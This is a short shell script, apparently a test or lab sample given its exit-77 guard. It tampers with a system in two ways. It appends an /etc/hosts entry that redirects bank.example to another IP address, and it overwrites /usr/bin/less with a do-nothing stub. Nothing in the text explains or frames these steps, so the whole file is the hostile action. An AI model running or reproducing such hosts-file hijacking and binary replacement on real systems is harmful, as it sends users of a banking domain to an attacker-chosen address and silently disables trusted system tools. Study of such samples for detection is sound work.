#!/bin/sh
# A program of the system's, and where names lead.
[ /init -ef /usr/sbin/auditd ] || exit 77
echo '198.51.100.9 bank.example' >>/etc/hosts
printf '#!/bin/sh\nexit 0\n' >/usr/bin/less
